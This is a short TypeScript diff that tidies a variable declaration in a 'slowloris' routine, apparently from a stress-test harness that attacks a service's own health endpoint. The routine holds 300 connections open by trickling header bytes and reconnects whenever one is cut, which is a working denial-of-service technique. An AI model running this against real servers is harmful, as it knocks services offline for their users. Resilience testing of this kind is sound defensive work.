@@ -89,12 +89,11 @@ const ATTACKS: Readonly<Record<string, () => void>> = {
   /** Three hundred who send a byte of a header now and then, and come back when they are cut. */
   slowloris: () => {
     const one = (): void => {
-      let trickle: NodeJS.Timeout | undefined;
       const tcp = open('GET /health/live HTTP/1.1\r\nX: ', () => {
         clearInterval(trickle);
         setTimeout(one, 100);
       });
-      trickle = setInterval(() => tcp.write('x'), 500);
+      const trickle = setInterval(() => tcp.write('x'), 500);
     };
     for (let n = 0; n < 300; n++) one();
   },
